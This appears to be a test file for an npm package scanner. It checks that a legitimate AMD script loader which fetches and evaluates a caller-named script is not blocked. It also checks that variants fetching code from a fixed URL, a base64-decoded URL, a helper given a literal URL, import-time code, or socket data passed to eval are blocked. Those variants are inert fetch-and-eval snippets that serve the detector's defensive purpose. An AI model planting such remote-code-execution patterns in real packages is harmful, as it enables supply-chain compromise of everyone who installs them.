/**
 * Code fetched from a URL only its caller names, and evaluated, is a script loader's service
 * (npm/flow-rules.ts `remote_code_exec_configured`; docs/package-analysis.md, "Branch pkg24"): an AMD
 * loader's worker fallback fetches the script it was asked for, from the page's own origin, and
 * evaluates it. In a file that runs only when the application calls it (runtime), that is LOW; where it
 * runs unasked (import-time) it is HIGH; from a server the code fixes (a literal URL anywhere in the
 * file), hides (decoded) or a socket, it stays `remote_code_eval` (CRITICAL).
 *
 * Real case, reduced and renamed (an editor package's AMD loader, BLOCKED before): a loader class whose
 * `load(moduleManager, scriptSrc, callback, errorback)` fetches `scriptSrc` when it is same-origin and
 * evaluates the text through a Trusted Types policy or `new Function`.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';

// Inert text: the archives are only read, never installed or run.
const LOADER = `'use strict';
var AMDLoader;
(function (AMDLoader) {
  class WorkerScriptLoader {
    constructor() {
      this._cachedCanUseEval = null;
    }
    _canUseEval(moduleManager) {
      if (this._cachedCanUseEval === null) this._cachedCanUseEval = canUseEval(moduleManager);
      return this._cachedCanUseEval;
    }
    load(moduleManager, scriptSrc, callback, errorback) {
      const { trustedTypesPolicy } = moduleManager.getConfig().getOptionsLiteral();
      const isCrossOrigin = /^((http:)|(https:)|(file:))/.test(scriptSrc) && scriptSrc.substring(0, self.origin.length) !== self.origin;
      if (!isCrossOrigin && this._canUseEval(moduleManager)) {
        fetch(scriptSrc)
          .then((response) => {
            if (response.status !== 200) throw new Error(response.statusText);
            return response.text();
          })
          .then((text) => {
            text = \`\${text}\\n//# sourceURL=\${scriptSrc}\`;
            const func = trustedTypesPolicy ? self.eval(trustedTypesPolicy.createScript('', text)) : new Function(text);
            func.call(self);
            callback();
          })
          .then(undefined, errorback);
        return;
      }
      try {
        if (trustedTypesPolicy) scriptSrc = trustedTypesPolicy.createScriptURL(scriptSrc);
        importScripts(scriptSrc);
        callback();
      } catch (e) {
        errorback(e);
      }
    }
  }
  function canUseEval(moduleManager) {
    const { trustedTypesPolicy } = moduleManager.getConfig().getOptionsLiteral();
    try {
      const func = trustedTypesPolicy ? self.eval(trustedTypesPolicy.createScript('', 'true')) : new Function('true');
      func.call(self);
      return true;
    } catch (err) {
      return false;
    }
  }
  AMDLoader.WorkerScriptLoader = WorkerScriptLoader;
})(AMDLoader || (AMDLoader = {}));
`;

const pkg = (files: Record<string, string>, main = 'esm/editor.main.js') => ({
  'package.json': JSON.stringify({ name: 'acme-editor', version: '1.0.0', main }),
  'esm/editor.main.js': "export function create(el) { return { el }; }\n",
  ...files,
});
const rules = (r: { rules: string[] }) => r.rules.join(' ');

test('real case: an AMD loader in a runtime file fetches the script its caller names and evaluates it: not BLOCKED', async () => {
  const r = await rateNpmFiles(pkg({ 'min/vs/loader.js': LOADER }), { name: 'acme-editor' });
  assert.ok(r.level === 'CLEAR' || r.level === 'MONITORED', `${r.level} ${rules(r)}`);
});

test('variants: a plugin loader given its URL as an option or a setting, in runtime code: not BLOCKED', async () => {
  const option = "class Plugins {\n  constructor(opts) { this.base = opts.base; }\n  async load(name) {\n    const res = await fetch(this.base + '/' + name + '.js');\n    return new Function(await res.text())();\n  }\n}\nmodule.exports = Plugins;\n";
  const setting = "const https = require('https');\nexports.loadRemote = function (cb) {\n  https.get(process.env.ACME_PLUGIN_URL, (res) => {\n    let body = '';\n    res.on('data', (c) => (body += c));\n    res.on('end', () => cb(eval(body)));\n  });\n};\n";
  for (const [name, code] of Object.entries({ option, setting })) {
    const r = await rateNpmFiles(pkg({ 'lib/plugins.js': code }), { name: 'acme-editor' });
    assert.ok(r.level === 'CLEAR' || r.level === 'MONITORED', `${name}: ${r.level} ${rules(r)}`);
  }
});

test('malicious twins: a fixed, hidden or socket source, or the loader run unasked at import, stays BLOCKED', async () => {
  const cases: Record<string, Record<string, string>> = {
    // the same loader fetching a literal URL
    'literal URL in the fetch': pkg({ 'min/vs/loader.js': LOADER.replace('fetch(scriptSrc)', "fetch('https://cdn.acme-mirror.net/p.js')") }),
    // the loader called in its own file with a literal URL (the file names a fixed server)
    'called with a literal in its file': pkg({ 'min/vs/loader.js': `${LOADER}\nnew AMDLoader.WorkerScriptLoader().load(mm, 'https://cdn.acme-mirror.net/p.js', () => {}, () => {});\n` }),
    // a decoded URL
    'decoded URL': pkg({ 'min/vs/loader.js': LOADER.replace('fetch(scriptSrc)', "fetch(atob('aHR0cHM6Ly9jZG4uYWNtZS1taXJyb3IubmV0L3AuanM='))") }),
    // a helper in the same file handed the literal by a plain call
    'helper given a literal': pkg({ 'lib/run.js': "function grab(u) {\n  return fetch(u).then((r) => r.text()).then((t) => new Function(t)());\n}\ngrab('https://cdn.acme-mirror.net/p.js');\n" }),
    // the caller-chosen loader in the package's main: runs at import, unasked
    'loader in main': pkg({ 'index.js': "module.exports = function load(u) {\n  return fetch(u).then((r) => r.text()).then((t) => new Function(t)());\n};\n" }, 'index.js'),
    // socket data evaluated
    'socket data': pkg({ 'lib/sock.js': "const net = require('net');\nexports.start = function (port, host) {\n  const s = net.connect(port, host);\n  s.on('data', (d) => eval(d.toString()));\n};\n" }),
  };
  for (const [name, files] of Object.entries(cases)) {
    const r = await rateNpmFiles(files, { name: 'acme-editor' });
    assert.is(r.level, 'BLOCKED', `${name}: ${rules(r)}`);
  }
});

test.run();
